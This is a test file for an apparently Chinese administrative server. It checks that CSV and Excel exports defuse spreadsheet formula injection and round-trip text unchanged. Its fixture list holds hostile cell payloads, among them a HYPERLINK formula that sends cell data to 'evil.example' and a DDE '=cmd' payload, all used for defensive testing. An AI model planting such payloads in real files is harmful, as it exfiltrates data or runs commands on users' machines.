/**
 * No table that leaves holds a formula, whatever somebody called a thing: every download over HTTP is read cell by cell, and
 * nobody writes tables but the pieces that see to it.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { isFormula } from '#domain/inert-text.ts'
import { putOrganisations } from '#modules/identity/index.ts'
import { systemActor } from '#platform/actor.ts'
import { newId } from '#platform/ids.ts'
import { openTable } from '#platform/tabular/open-table.ts'
import { writeSheets } from '#platform/tabular/write-sheets.ts'
import { writeTable } from '#platform/tabular/write-table.ts'
import { listSourceFiles, root } from '../scripts/source-files.ts'
import { openTestCounty, type TestCounty, tinyMiddle } from './testing/test-county.ts'
import { testAdcode, type Voice } from './testing/test-house.ts'

const formulas = [
  '=HYPERLINK("http://evil.example?"&A1,"看")',
  "=cmd|'/C calc'!A0",
  '+86+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1＋1',
]

let county: TestCounty
let keeper: Voice
let folder: string
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'jingwei-leaves-'))
  county = await openTestCounty()
  keeper = await county.as({ username: 'keeper', name: formulas[0] ?? '', posts: ['data_admin'] })
  await county.act(systemActor(testAdcode), putOrganisations, {
    organisations: formulas.slice(0, 5).map((name) => ({
      id: newId(),
      name,
      shortName: null,
      kind: 'company' as const,
      creditCode: null,
      externalCode: name.slice(0, 20),
      parentId: null,
      areaCodes: [],
      aliases: [name],
      isDemonstration: false,
    })),
  })
  for (const [index, text] of formulas.slice(0, 5).entries()) {
    const point = tinyMiddle(index % 4, 3)
    const camera = await keeper.post('/api/cameras', {
      code: `C-${index}`,
      name: text,
      address: text,
      point,
      purpose: text,
      legalBasis: text,
    })
    expect(camera.status, JSON.stringify(camera.body)).toBe(200)
    const place = await keeper.post('/api/addresses/library', {
      kind: 'landmark',
      name: `地标${index}`,
      fullText: text,
      otherNames: [],
      point,
      source: text,
    })
    expect(place.status, JSON.stringify(place.body)).toBe(200)
  }
})
afterAll(async () => {
  await county.close()
  rmSync(folder, { recursive: true })
})

/** The texts of all cells of a file. */
async function cellsOf(bytes: Buffer, type: string): Promise<string[]> {
  if (type.startsWith('text/csv')) return (parse(bytes, { bom: true }) as string[][]).flat()
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer)
  const cells: string[] = []
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell(({ value, formula }) => {
        if (formula) cells.push(`=${formula}`)
        else if (typeof value === 'string') cells.push(value)
      }),
    )
  return cells
}

it('every table that HTTP gives out is one of texts', async () => {
  const doors = county.modules
    .flatMap((it) => it.routes.map((route) => route.endpoint))
    .filter((it) => it.method === 'GET' && /export|workbook|template/.test(it.path) && !it.path.includes(':'))
  expect(doors.length).toBeGreaterThanOrEqual(5)
  const seen: string[] = []
  for (const { path, permission } of doors)
    for (const query of ['', '?format=csv', '?format=xlsx']) {
      const voice = [keeper, county.sysadmin, county.dispatcher].find((it) =>
        it.session.permissions.has(permission),
      )
      const reply = await county.app.inject({
        url: `${path}${query}`,
        headers: { authorization: `Bearer ${voice?.token ?? ''}` },
      })
      const type = String(reply.headers['content-type'])
      if (reply.statusCode !== 200 || !/csv|spreadsheetml/.test(type)) continue
      expect(String(reply.headers['content-disposition'])).toMatch(/^attachment; /)
      const cells = await cellsOf(reply.rawPayload, type)
      expect(cells.filter(isFormula), `${path}${query}`).toEqual([])
      seen.push(...cells)
    }
  // What was typed is there, marked as text.
  expect(seen.filter((it) => it.startsWith("'=cmd")).length).toBeGreaterThan(2)
})

it.each(['csv', 'xlsx'] as const)(
  'a %s file of formulas is inert, by RFC 4180, and comes back as it went',
  async (format) => {
    const path = join(folder, `out.${format}`)
    const rows = async function* () {
      for (const [index, text] of formulas.entries())
        yield { columns: { id: index, text, other: `a,"b"\r\n${text}` } }
    }
    await writeTable(path, ['id', 'text', 'other'], rows())
    const bytes = readFileSync(path)
    const cells = await cellsOf(bytes, format === 'csv' ? 'text/csv' : 'xlsx')
    expect(cells.filter(isFormula)).toEqual([])
    if (format === 'csv') expect(bytes.toString('utf8')).toMatch(/^\uFEFFid,text,other\r\n/)
    const file =
      format === 'csv'
        ? ({ format, encoding: 'utf-8', delimiter: ',' } as const)
        : ({ format, headingRow: 1 } as const)
    const table = await openTable(path, file)
    const back: unknown[] = []
    for await (const row of table.rows) back.push(row.columns['text'])
    // XML knows one sign for the end of a line.
    expect(back).toEqual(formulas.map((it) => (format === 'csv' ? it : it.replace('\r', '\n'))))
  },
)

it('a workbook of several sheets is inert too', async () => {
  const path = join(folder, 'sheets.xlsx')
  await writeSheets(path, '=heading', [{ title: '=title', columns: ['a'], rows: formulas.map((it) => [it]) }])
  expect((await cellsOf(readFileSync(path), 'xlsx')).filter(isFormula)).toEqual([])
})

it('nobody writes tables but the pieces that see to it', () => {
  const writers = listSourceFiles().filter(
    (it) =>
      /^server\/.*\.ts$/.test(it) &&
      !/\.test\.ts$|\/testing\//.test(it) &&
      /from '(?:exceljs|csv-stringify)/.test(readFileSync(join(root, it), 'utf8')),
  )
  expect(writers).toEqual([
    'server/modules/catalogue/excel-file.ts',
    'server/platform/tabular/read-workbook.ts',
    'server/platform/tabular/write-sheets.ts',
    'server/platform/tabular/write-table.ts',
  ])
})
